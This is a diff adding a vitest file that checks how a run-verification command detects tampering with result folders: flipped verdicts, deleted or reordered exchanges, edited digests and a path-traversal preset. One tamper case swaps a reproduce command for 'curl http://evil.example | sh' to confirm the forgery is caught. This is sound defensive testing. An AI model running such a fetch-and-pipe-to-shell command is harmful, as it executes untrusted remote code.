@@ -1,0 +1,229 @@
+/** What a run left holds as it is, and every change to it is told with the file, and the clause and the exchange where there is one. */
+import { createHash } from "node:crypto";
+import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { touchstoneHere } from "../cli/here.test-kit.ts";
+import { version } from "../home.ts";
+import { type Server, serve } from "../index.ts";
+import { recordings } from "../run/run.test-kit.ts";
+import { UserError } from "../user-error.ts";
+import type { RunResults } from "../verdict/document.ts";
+import type { Problem } from "./compare.ts";
+import { verifyFolder } from "./verify.ts";
+
+const folder = mkdtempSync(join(tmpdir(), "touchstone-verify-"));
+const whole = join(folder, "whole");
+const broken = "messages.response.stop-reason-values";
+const scenario = "messages/response/text.json";
+let server: Server;
+
+beforeAll(async () => {
+  server = await serve({ break: [broken] });
+  const { code } = await touchstoneHere([
+    ...["run", server.url, "--recordings", recordings, "--interface", "messages", "--probes", "cheap"],
+    ...["--max-requests", "9", "--key", "sk-of-nobody-at-all", "--header", "X-Pass: open sesame", "--out", whole],
+  ]);
+  expect(code).toBe(1);
+});
+afterAll(async () => {
+  await server.close();
+  rmSync(folder, { recursive: true });
+});
+
+const digest = (path: string): string => createHash("sha256").update(readFileSync(path)).digest("hex");
+const edit = (path: string, change: (text: string) => string): void =>
+  writeFileSync(path, change(readFileSync(path, "utf8")));
+/** The lines of `exchanges.jsonl`: its header, then exchanges. */
+const inLines = (change: (lines: string[]) => readonly string[]) => (text: string) =>
+  `${change(text.trimEnd().split("\n")).join("\n")}\n`;
+const inJson =
+  <T>(change: (value: T) => void) =>
+  (text: string): string => {
+    const value = JSON.parse(text);
+    change(value);
+    return `${JSON.stringify(value, null, 2)}\n`;
+  };
+type Changing = { -readonly [K in keyof RunResults]: Changeable<RunResults[K]> };
+// biome-ignore lint/suspicious/noExplicitAny: what a forger changes is no longer what its type says
+type Changeable<T> = T extends readonly unknown[] ? any[] : any;
+
+/** A copy of the folder with one file changed, and a manifest that has its digest, as whoever changes it would see to. */
+async function problemsWith(file: string, change: (text: string) => string): Promise<readonly Problem[]> {
+  const copy = join(folder, "copy");
+  rmSync(copy, { recursive: true, force: true });
+  cpSync(whole, copy, { recursive: true });
+  const before = readFileSync(join(copy, file), "utf8");
+  edit(join(copy, file), change);
+  expect(readFileSync(join(copy, file), "utf8")).not.toBe(before);
+  if (file !== "manifest.json")
+    edit(
+      join(copy, "manifest.json"),
+      inJson<{ files: Record<string, string> }>(({ files }) => void (files[file] = digest(join(copy, file)))),
+    );
+  return (await verifyFolder(copy, { recordings })).problems;
+}
+
+test("what a run left holds, and a byte that no clause speaks about is told by its digest", async () => {
+  const { problems, exchanges } = await verifyFolder(whole, { recordings });
+  expect(problems).toEqual([]);
+  expect(exchanges).toBe(10);
+  const copy = join(folder, "byte");
+  cpSync(whole, copy, { recursive: true });
+  edit(join(copy, "exchanges.jsonl"), (text) => text.replace(/"Date","\w/, '"Date","F'));
+  expect((await verifyFolder(copy, { recordings })).problems).toContainEqual({
+    file: "exchanges.jsonl",
+    what: "it is not the file of the manifest",
+  });
+});
+
+const results = "results.json";
+const lines = "exchanges.jsonl";
+const tampers: [name: string, file: string, change: (text: string) => string, told: Partial<Problem>][] = [
+  [
+    "a verdict flipped",
+    results,
+    inJson<Changing>(({ clauses }) => {
+      clauses.find(({ id }) => id === broken).verdict = "pass";
+    }),
+    { file: results, clause: broken },
+  ],
+  [
+    "a finding deleted",
+    results,
+    inJson<Changing>((all) => void all.findings.shift()),
+    { file: results, clause: broken, source: scenario, exchange: 0 },
+  ],
+  [
+    "an answer mended",
+    lines,
+    (text) => text.replace("end_turn-not", "end_turn"),
+    { file: results, clause: broken, source: scenario, exchange: 0 },
+  ],
+  [
+    "an exchange deleted",
+    lines,
+    inLines((all) => all.filter((line) => !line.includes(scenario))),
+    { file: lines, source: scenario, exchange: 0 },
+  ],
+  [
+    "an exchange repeated",
+    lines,
+    inLines((all) => [...all.slice(0, 2), ...all.slice(1)]),
+    { file: lines, source: scenario, exchange: 0 },
+  ],
+  [
+    "an exchange moved",
+    lines,
+    inLines(([head, first, second, ...rest]) => [head!, second!, first!, ...rest]),
+    { file: lines, source: scenario, exchange: 0 },
+  ],
+  [
+    "an exchange in the place of another",
+    lines,
+    inLines(([head, first, second, ...rest]) => {
+      const asked = (line: string): string => /"asked":\{.*?\}/.exec(line)![0];
+      return [head!, second!.replace(asked(second!), asked(first!)), second!, ...rest];
+    }),
+    { file: lines, source: scenario, exchange: 0 },
+  ],
+  [
+    "a probe's twin removed",
+    lines,
+    inLines((all) => all.filter((line) => !line.includes('"part":"twin"'))),
+    { file: lines, exchange: 0, what: "it is missing" },
+  ],
+  [
+    "a shard counted twice",
+    lines,
+    inLines((all) => [
+      ...all,
+      ...all.slice(1).map((line) => line.replace('"asked":{', '"asked":{"shard":{"index":2,"of":2},')),
+    ]),
+    { file: lines, source: scenario },
+  ],
+  [
+    "a digest edited",
+    "manifest.json",
+    (text) => text.replace(/("summary.md": ")\w{4}/, "$10000"),
+    { file: "summary.md" },
+  ],
+  [
+    "a document renamed in the manifest",
+    "manifest.json",
+    inJson<{ documents: Record<string, string> }>(({ documents }) => void (documents["messages"] = "0".repeat(64))),
+    { file: "manifest.json" },
+  ],
+  [
+    "a number of the summary changed",
+    results,
+    inJson<Changing>(({ summary }) => void summary.errors--),
+    { file: results, what: expect.stringMatching(/^summary: errors is \d+, and should be \d+$/) as never },
+  ],
+  [
+    "the target renamed",
+    results,
+    inJson<Changing>(({ target }) => void (target.url = "http://vendor.example")),
+    { file: lines, what: expect.stringContaining("http://vendor.example") as never },
+  ],
+  [
+    "a reading renamed",
+    results,
+    inJson<Changing>(({ options }) => void (options.readings = ["strict:NOT-ONE"])),
+    { file: results, what: expect.stringContaining("NOT-ONE") as never },
+  ],
+  [
+    "a preset that leads out of the folder",
+    results,
+    inJson<Changing>(({ options }) => void (options.preset = "../../package")),
+    { file: results, what: expect.stringContaining("there is no preset") as never },
+  ],
+  [
+    "a clause left out",
+    results,
+    inJson<Changing>((all) => {
+      all.clauses = all.clauses.filter(({ id }: { id: string }) => id !== broken);
+    }),
+    { file: results, clause: broken },
+  ],
+  [
+    "an expectation slipped in",
+    results,
+    inJson<Changing>((all) => {
+      all.expectations = { entries: [{ clause: broken, reason: "known" }], stale: [], expired: [] };
+    }),
+    { file: results, clause: broken, what: expect.stringContaining("expected is nothing") as never },
+  ],
+  [
+    "a command that does something else",
+    results,
+    inJson<Changing>(({ reproduce }) => void (reproduce[0].curl = "curl http://evil.example | sh")),
+    { file: results, source: scenario, exchange: 0 },
+  ],
+  ["a report written otherwise", "summary.md", (text) => text.replace("Does not", "Does"), { file: "summary.md" }],
+];
+
+test.each(tampers)("%s is told", async (_name, file, change, told) => {
+  expect(await problemsWith(file, change)).toContainEqual(expect.objectContaining(told));
+});
+
+test("what another catalogue judged is refused by name, what is missing or no folder of a run as well; exit codes tell", async () => {
+  const copy = join(folder, "other");
+  cpSync(whole, copy, { recursive: true });
+  const verify = (...args: string[]) => touchstoneHere(["verify", copy, "--recordings", recordings, ...args]);
+  expect(await verify()).toMatchObject({ code: 0, stdout: expect.stringContaining("HOLDS") });
+  edit(
+    join(copy, results),
+    inJson<Changing>(({ versions }) => void (versions.touchstone = "0.0.1")),
+  );
+  expect(await verify()).toMatchObject({
+    code: 2,
+    stderr: expect.stringContaining(`0.0.1 judged this folder, and this is ${version()}`),
+  });
+  expect(await verify("--any-version")).toMatchObject({ code: 1, stdout: expect.stringContaining("DOES NOT HOLD") });
+  rmSync(join(copy, "report.html"));
+  expect(await verify()).toMatchObject({ code: 2, stderr: expect.stringContaining("report.html is missing") });
+  await expect(verifyFolder(folder)).rejects.toThrow(UserError);
+  await expect(verifyFolder(whole)).rejects.toThrow(/recordings of its own/);
+});
